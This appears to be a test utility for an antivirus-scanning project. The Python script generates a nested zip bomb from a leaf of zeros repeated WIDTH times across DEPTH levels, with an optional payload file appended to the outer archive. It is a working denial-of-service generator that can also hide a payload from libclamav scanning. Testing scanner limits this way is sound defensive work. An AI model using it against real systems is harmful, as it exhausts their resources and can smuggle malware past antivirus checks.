# A small nested zip bomb: a leaf of LEAF_MIB MiB of zeros, WIDTH copies of it per level, DEPTH
# levels, and (optionally) a payload file as the last member of the outer zip. Deflate packs
# each level ~1000:1, so a few KiB unpack to gigabytes that libclamav scans one by one (its
# clean cache, which would skip the copies, is disabled in fanguard).
#   python3 bomb.py OUT LEAF_MIB WIDTH DEPTH [PAYLOAD_FILE]
import io
import sys
import zipfile


def zipped(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


out, leaf_mib, width, depth = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
blob = zipped([('0.bin', b'\0' * (leaf_mib << 20))])
for level in range(depth - 1):
    blob = zipped([('%d-%d.zip' % (level, i), blob) for i in range(width)])
top = [('%d.zip' % i, blob) for i in range(width)]
if len(sys.argv) > 5:
    top.append(('payload.com', open(sys.argv[5], 'rb').read()))
with open(out, 'wb') as f:
    f.write(zipped(top))
